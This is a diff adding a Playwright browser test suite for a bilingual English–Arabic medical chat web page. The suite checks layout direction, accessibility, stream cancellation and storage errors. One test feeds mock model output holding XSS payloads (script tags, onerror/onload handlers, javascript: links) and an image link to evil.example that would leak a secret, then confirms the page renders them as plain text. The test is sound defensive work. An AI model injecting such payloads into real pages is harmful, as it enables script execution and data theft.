@@ -1,0 +1,241 @@
+/// <reference lib="dom" />
+/// <reference lib="dom.iterable" />
+/** The web page in a real browser: Chromium, by playwright-core. Skipped where there is none. */
+import assert from "node:assert/strict";
+import { existsSync } from "node:fs";
+import { mkdir } from "node:fs/promises";
+import { createRequire } from "node:module";
+import { join } from "node:path";
+import { after, before, describe, test } from "node:test";
+import { type Browser, type BrowserContext, chromium, type Page } from "playwright-core";
+import { root } from "../fixtures.js";
+import { start, type TestServer } from "./server.js";
+
+const candidates = [process.env.CHROMIUM, "/usr/bin/chromium", "/usr/bin/chromium-browser", "/usr/bin/google-chrome"];
+const executablePath = candidates.find((path) => path && existsSync(path));
+const axe = createRequire(import.meta.url).resolve("axe-core/axe.min.js");
+/** BIMEDIX_SCREENSHOTS=docs writes the pictures that the README shows. */
+const pictures = process.env.BIMEDIX_SCREENSHOTS;
+
+describe("the page in Chromium", { skip: executablePath ? false : "no Chromium here; set CHROMIUM" }, () => {
+  let at: TestServer;
+  let browser: Browser;
+  let context: BrowserContext;
+  let page: Page;
+  const problems: string[] = [];
+
+  before(async () => {
+    at = await start({ pretrained: { dtype: "q8", threads: 1 } });
+    browser = await chromium.launch({ executablePath: executablePath!, args: ["--no-sandbox"] });
+  });
+  after(async () => {
+    await browser.close();
+    await at.server.stop(1);
+  });
+
+  async function open(locale: "en" | "ar", width = 1100): Promise<void> {
+    await context?.close();
+    context = await browser.newContext({ locale, viewport: { width, height: 760 } });
+    // A script that CSP or a library's name stops would only be a line in the console.
+    page = await context.newPage();
+    problems.length = 0;
+    page.on("pageerror", (error) => problems.push(error.message));
+    page.on("console", (message) => message.type() === "error" && problems.push(message.text()));
+    await page.goto(at.url);
+    await page.waitForSelector("header select option", { state: "attached" });
+  }
+  const ask = async (text: string) => {
+    await page.locator(".composer textarea").fill(text);
+    await page.keyboard.press("Enter");
+  };
+  const answered = () => page.waitForSelector('[role="log"][aria-busy="false"] article.assistant:last-of-type p');
+  const picture = async (name: string) => {
+    if (!pictures) return;
+    await mkdir(join(root, pictures), { recursive: true });
+    await page.screenshot({ path: join(root, pictures, `${name}.png`) });
+  };
+  /** Faults that axe finds serious or worse. */
+  async function faults(): Promise<string[]> {
+    // CSP lets no script in, so this one comes with the debugger.
+    await page.evaluate((await import("node:fs")).readFileSync(axe, "utf8"));
+    const found = await page.evaluate(() =>
+      (
+        globalThis as unknown as {
+          axe: { run(): Promise<{ violations: { id: string; impact: string; nodes: { html: string }[] }[] }> };
+        }
+      ).axe.run(),
+    );
+    return found.violations
+      .filter(({ impact }) => impact === "serious" || impact === "critical")
+      .map(({ id, nodes }) => `${id}: ${nodes[0]!.html}`);
+  }
+  const direction = (selector: string) =>
+    page
+      .locator(selector)
+      .last()
+      .evaluate((element) => getComputedStyle(element).direction);
+
+  test("an English conversation, edited, answered again and kept over a reload", async () => {
+    await open("en");
+    assert.match(await page.locator(".notice").innerText(), /not medical advice/);
+    await ask("What are the signs of diabetes?");
+    await answered();
+    const first = await page.locator("article.assistant").last().innerText();
+    assert.ok(first.length > 20, first);
+    assert.equal(await direction("article.assistant p"), "ltr");
+    await picture("chat-en");
+    assert.deepEqual(await faults(), []);
+
+    await page.locator("article.user .actions button").click();
+    await page.locator("article.user textarea").fill("What are the signs of asthma?");
+    await page.locator('article.user button[type="submit"]').click();
+    await answered();
+    assert.equal(await page.locator("article").count(), 2);
+    await page.locator("article.assistant .actions button").click();
+    await answered();
+    const before_reload = await page.locator(".messages").innerText();
+    await page.reload();
+    await page.waitForSelector("article.assistant p");
+    assert.equal(await page.locator(".messages").innerText(), before_reload);
+
+    await page.locator("aside section > button").click();
+    assert.equal(await page.locator("article").count(), 0);
+    assert.equal(await page.locator(".conversations li").count(), 2);
+    assert.deepEqual(problems, []);
+    // Nothing of it is on the server.
+    assert.ok(!JSON.stringify(at.lines).includes("asthma"));
+  });
+
+  test("an Arabic conversation, from right to left, with English words inside", async () => {
+    await open("ar");
+    assert.equal(await page.evaluate(() => document.documentElement.dir), "rtl");
+    assert.match(await page.locator(".notice").innerText(), /ليس نصيحة طبية/);
+    await ask("ما هي أعراض السكري؟");
+    await answered();
+    assert.equal(await direction("article.assistant p"), "rtl");
+    assert.equal(await direction("article.user .said"), "rtl");
+    const [aside, main] = await Promise.all(["aside", "main"].map((part) => page.locator(part).boundingBox()));
+    assert.ok(aside!.x > main!.x, "the conversations are on the right");
+    await picture("chat-ar");
+    assert.deepEqual(await faults(), []);
+    await ask("What is asthma?");
+    await answered();
+    assert.equal(await direction("article.user .said"), "ltr");
+    assert.deepEqual(problems, []);
+  });
+
+  test("an answer is stopped in the middle, and the server hears of it", async () => {
+    await open("en");
+    await page.evaluate(() => {
+      const state = JSON.parse(localStorage.getItem("bimedix") ?? "{}");
+      state.settings = { ...state.settings, temperature: 2, max_tokens: 900 };
+      localStorage.setItem("bimedix", JSON.stringify(state));
+    });
+    await page.reload();
+    await page.waitForSelector("header select option", { state: "attached" });
+    await ask("What is asthma?");
+    await page.waitForSelector("article.assistant p");
+    await page.locator(".composer button").click();
+    await page.waitForSelector("article.assistant .problem");
+    for (let waited = 0; at.server.service.active > 0 && waited < 5000; waited += 20)
+      await new Promise((resume) => setTimeout(resume, 20));
+    assert.equal(at.server.service.active, 0);
+  });
+
+  test("what a model writes stays text: tags, scripts, addresses, pictures, deep quotes, tables of both directions", async () => {
+    await open("en");
+    const hostile = [
+      '<img src=x onerror="globalThis.hacked=1"> <script>globalThis.hacked=1</script>',
+      "[here](javascript:globalThis.hacked=1) [data](data:text/html,<script>1</script>) [good](https://example.org/)",
+      "![pixel](https://evil.example/?q=secret)",
+      "<details open ontoggle=globalThis.hacked=1><svg onload=globalThis.hacked=1>",
+      `${">".repeat(10_000)} deep`,
+      "| الدواء | dose |\n| --- | --- |\n| الأنسولين | 5 mg |",
+      "`code في السطر`",
+    ].join("\n\n");
+    await page.route("**/v1/chat/completions", (route) => {
+      const chunk = { choices: [{ index: 0, delta: { content: hostile }, finish_reason: null }] };
+      return route.fulfill({
+        contentType: "text/event-stream",
+        body: `data: ${JSON.stringify(chunk)}\n\ndata: [DONE]\n\n`,
+      });
+    });
+    const requested: string[] = [];
+    page.on("request", (request) => requested.push(request.url()));
+    await ask("x");
+    await page.waitForSelector("article.assistant table");
+    await page.waitForTimeout(200);
+    assert.equal(await page.evaluate(() => (globalThis as { hacked?: number }).hacked), undefined);
+    assert.equal(await page.locator("article img, article script, article svg, article details").count(), 0);
+    assert.deepEqual(
+      await page.locator("article a").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).href)),
+      ["https://example.org/"],
+    );
+    assert.ok(
+      requested.every((url) => url.startsWith(at.url)),
+      String(requested),
+    );
+    assert.match(await page.locator("article.assistant").last().innerText(), /<img src=x onerror/);
+    assert.equal(await direction("article.assistant table"), "rtl");
+    assert.equal(await direction("article.assistant bdi code"), "ltr");
+    // A stream that is cut in the middle of an event, and a full storage.
+    await page.unroute("**/v1/chat/completions");
+    await page.route("**/v1/chat/completions", (route) =>
+      route.fulfill({
+        contentType: "text/event-stream",
+        body: 'data: {"choices":[{"index":0,"delta":{"content":"half"},"fin',
+      }),
+    );
+    await page.evaluate(() => {
+      Storage.prototype.setItem = () => {
+        throw new DOMException("full", "QuotaExceededError");
+      };
+    });
+    await ask("y");
+    await page.waitForSelector("article.assistant:last-of-type .problem");
+    assert.match(await page.locator('main > [role="alert"]').innerText(), /storage is full/);
+  });
+
+  test("questions with options, routing and settings, in both languages and on a phone", async () => {
+    for (const [locale, width] of [
+      ["en", 1100],
+      ["ar", 390],
+    ] as const) {
+      await open(locale, width);
+      const views = page.locator("aside nav button");
+      const show = async (i: number) => {
+        if (width < 700) await page.locator("header .menu").click();
+        await views.nth(i).click();
+      };
+      assert.ok(
+        await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
+        "nothing beside the screen",
+      );
+      await picture(`phone-${locale}`);
+      await show(1);
+      await page.locator('.page button[type="submit"]').click();
+      await page.waitForSelector(".bars li");
+      assert.equal(await page.locator(".bars li").count(), 4);
+      assert.deepEqual(await faults(), []);
+      await picture(`mcqa-${locale}`);
+      await show(2);
+      await page.locator('.page button[type="submit"]').click();
+      await page.waitForSelector(".heat .cell");
+      assert.equal(await page.locator(".heat").count(), 2);
+      assert.deepEqual(
+        await page.locator(".heat").evaluateAll((all) => all.map((one) => getComputedStyle(one).direction)),
+        ["ltr", "rtl"],
+      );
+      assert.deepEqual(await faults(), []);
+      await picture(`routing-${locale}`);
+      await show(3);
+      await page.locator(".page select").nth(1).selectOption("dark");
+      assert.deepEqual(await faults(), []);
+      assert.ok(
+        await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth),
+        "nothing beside the screen",
+      );
+      assert.deepEqual(problems, []);
+    }
+  });
+});
